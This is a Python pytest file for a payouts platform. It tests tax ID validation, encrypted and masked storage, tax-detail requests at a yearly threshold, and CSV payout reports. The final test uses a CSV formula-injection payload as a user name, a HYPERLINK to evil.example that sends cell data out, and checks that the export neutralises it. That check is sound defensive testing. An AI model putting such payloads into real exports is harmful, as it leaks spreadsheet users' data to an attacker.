"""Issue 19, tax details: validated with python-stdnum, encrypted at rest, required before the
year's payouts pass HITBOT_TAX_THRESHOLD_CENTS, asked for once as the total nears it."""
from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from core.config import get_settings
from core.db import db
from core.errors import TaxDetailsRequired, ValidationFailed
from core.models import OutboxEvent, Payout, TaxDetails
from core.payments import accounts, tax
from core.payments.payouts import maybe_auto_withdraw, set_auto_withdraw
from tests import factories as f
from tests.conftest import NOW
from tests.invariants import check_invariants

DE_IDNR = "36574261809"  # a German tax id with valid check digit


@pytest.fixture
def threshold(monkeypatch):
    monkeypatch.setenv("HITBOT_TAX_THRESHOLD_CENTS", "1000")
    get_settings.cache_clear()
    yield 10_00
    monkeypatch.undo()
    get_settings.cache_clear()


@pytest.mark.parametrize("country, typed, compact", [
    ("DE", "36 574 261 809", DE_IDNR),
    ("ES", "54362315-k", "54362315K"),
    ("us", "536-90-4399", "536904399"),  # SSN
    ("US", "91-1144442", "911144442"),  # EIN
    ("NG", "AB12-3456", "AB123456"),  # a country python-stdnum has no tax id format for
])
def test_valid_tax_ids(country, typed, compact):
    assert tax.check_tax_id(country, typed) == (country.upper(), compact)


@pytest.mark.parametrize("country, typed, why", [
    ("ES", "54362315Z", "not a valid tax id for ES"),  # DNI with the wrong check letter (K is right)
    ("FR", "3023217600054", "not a valid tax id for FR"),  # numéro fiscal, check digits off by one
    ("DE", "1234", "not a valid tax id for DE"),  # wrong length for Germany
    ("XX", DE_IDNR, "two-letter code"),
    ("DE", "", "Please give your tax id"),
    ("DE", "9" * 31, "too long"),
    ("NG", "A!", "4 to 20 letters and digits"),
])
def test_invalid_tax_ids_are_refused_with_a_reason(country, typed, why):
    with pytest.raises(ValidationFailed, match=why):
        tax.check_tax_id(country, typed)


def test_stored_encrypted_and_shown_masked(database):
    wes = f.user("Wes")
    with pytest.raises(ValidationFailed):
        tax.set_tax_details(user_id=wes.id, country="ES", tax_id="54362315Z", now=NOW)
    assert TaxDetails.select().count() == 0  # a refusal stores nothing
    info = tax.set_tax_details(user_id=wes.id, country="de", tax_id=DE_IDNR, now=NOW)
    assert (info.country, info.masked) == ("DE", "****1809")
    row = TaxDetails.get_by_id(wes.id)
    assert DE_IDNR not in row.secret and DE_IDNR not in row.masked
    assert tax.reveal_tax_details(user_id=wes.id) == {"country": "DE", "tax_id": DE_IDNR}
    db.execute_sql("SELECT 1")
    if db.database and Path(str(db.database)).exists():  # SQLite: the file itself never holds the id
        db.close()
        assert DE_IDNR.encode() not in Path(str(db.database)).read_bytes()


def test_payouts_past_the_threshold_need_tax_details(database, threshold):
    wes = f.requester(20_00, name="Wes")
    first = accounts.withdraw(worker_id=wes.id, now=NOW, key="t1", amount_cents=8_00)  # 80 %: asked once
    asked = list(OutboxEvent.select().where(OutboxEvent.kind == tax.NEEDED_KIND))
    assert len(asked) == 1 and asked[0].user_id == wes.id
    assert asked[0].payload == {"paid_cents": 8_00, "threshold_cents": 10_00, "year": NOW.year}
    accounts.withdraw(worker_id=wes.id, now=NOW, key="t2", amount_cents=2_00)  # exactly at it: fine, not asked again
    assert OutboxEvent.select().where(OutboxEvent.kind == tax.NEEDED_KIND).count() == 1
    with pytest.raises(TaxDetailsRequired, match=r"past \$10.00 a year need your tax details.*\$10.00 this year"):
        accounts.withdraw(worker_id=wes.id, now=NOW, key="t3", amount_cents=1_00)
    with pytest.raises(TaxDetailsRequired):
        accounts.withdrawal_quote(worker_id=wes.id, now=NOW)
    assert Payout.select().count() == 2 and accounts.balances(user_id=wes.id).available_cents == 10_00
    accounts.fail_payout(payout_id=first.id, now=NOW, reason="bank said no")  # a failed payout doesn't count
    assert tax.paid_in_year(user_id=wes.id, year=NOW.year) == 2_00
    accounts.withdraw(worker_id=wes.id, now=NOW, key="t4", amount_cents=8_00)
    tax.set_tax_details(user_id=wes.id, country="DE", tax_id=DE_IDNR, now=NOW)
    accounts.withdraw(worker_id=wes.id, now=NOW, key="t5", amount_cents=10_00)  # past it, with details
    assert tax.paid_in_year(user_id=wes.id, year=NOW.year) == 20_00
    next_year = datetime(NOW.year + 1, 1, 1, 0, 0, 1, tzinfo=UTC)
    assert tax.paid_in_year(user_id=wes.id, year=next_year.year) == 0
    check_invariants()


def test_auto_withdraw_past_the_threshold_waits_and_asks(database, threshold):
    wes = f.requester(15_00, name="Wes")
    set_auto_withdraw(user_id=wes.id, threshold_cents=5_00, now=NOW)
    assert maybe_auto_withdraw(user_id=wes.id, now=NOW) is None  # $15 at once would pass $10
    assert Payout.select().count() == 0 and accounts.balances(user_id=wes.id).available_cents == 15_00
    assert [e.user_id for e in OutboxEvent.select().where(OutboxEvent.kind == tax.NEEDED_KIND)] == [wes.id]
    assert maybe_auto_withdraw(user_id=wes.id, now=NOW) is None
    assert OutboxEvent.select().where(OutboxEvent.kind == tax.NEEDED_KIND).count() == 1  # asked once a year
    tax.set_tax_details(user_id=wes.id, country="US", tax_id="536-90-4399", now=NOW)
    assert maybe_auto_withdraw(user_id=wes.id, now=NOW).amount_cents == 15_00
    check_invariants()


def test_without_a_threshold_nothing_is_asked(database):
    wes = f.requester(500_00, name="Wes")
    accounts.withdraw(worker_id=wes.id, now=NOW, key="big")
    assert OutboxEvent.select().where(OutboxEvent.kind == tax.NEEDED_KIND).count() == 0


def test_the_yearly_report(database, threshold):
    wes, ann = f.requester(8_00, name="Wes"), f.requester(5_00, name="Ann")
    tax.set_tax_details(user_id=ann.id, country="DE", tax_id=DE_IDNR, now=NOW)
    accounts.withdraw(worker_id=wes.id, now=NOW, key="r1", amount_cents=3_00)
    accounts.withdraw(worker_id=wes.id, now=NOW, key="r2", amount_cents=2_00)
    failed = accounts.withdraw(worker_id=ann.id, now=NOW, key="r3", amount_cents=1_00)
    accounts.fail_payout(payout_id=failed.id, now=NOW, reason="no")
    accounts.withdraw(worker_id=ann.id, now=NOW, key="r4", amount_cents=4_00)
    assert tax.payouts_report(year=NOW.year) == [
        (wes.id, "Wes", 2, 5_00, 0, "USD", "", ""),
        (ann.id, "Ann", 1, 4_00, 0, "USD", "DE", "****1809"),
    ]
    assert tax.payouts_report(year=NOW.year - 1) == []


def test_hitbot_report_payouts_writes_the_csv(database, threshold, tmp_path):
    import csv
    import os
    import subprocess
    import sys

    wes = f.requester(8_00, name="Wes, Jr.")
    tax.set_tax_details(user_id=wes.id, country="DE", tax_id=DE_IDNR, now=NOW)
    accounts.withdraw(worker_id=wes.id, now=NOW, key="c1", amount_cents=6_00)
    out = tmp_path / "payouts.csv"
    env = {**os.environ, "DATABASE_URL": database}
    done = subprocess.run([sys.executable, "-c", "from hitbot.cli import main; raise SystemExit(main())", "report",
                           "payouts", "--year", str(NOW.year), "--output", str(out)],
                          env=env, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows == [list(tax.REPORT_COLUMNS), [str(wes.id), "Wes, Jr.", "1", "600", "0", "USD", "DE", "****1809"]]
    assert DE_IDNR not in out.read_text() and DE_IDNR not in done.stdout + done.stderr
    bad = subprocess.run([sys.executable, "-c", "from hitbot.cli import main; raise SystemExit(main())", "report",
                          "payouts", "--year", "twenty"], env=env, capture_output=True, text=True, timeout=120, check=False)
    assert bad.returncode == 2 and "not a whole number" in bad.stderr


def test_a_name_that_looks_like_a_formula_is_written_as_text(database, threshold):
    import csv
    import io

    mal = f.requester(8_00, name='=HYPERLINK("https://evil.example/?"&A1,"click")')
    accounts.withdraw(worker_id=mal.id, now=NOW, key="f1", amount_cents=2_00)
    out = io.StringIO()
    tax.write_payouts_csv(year=NOW.year, out=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][1] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert rows[1][3] == "200"  # numbers stay numbers
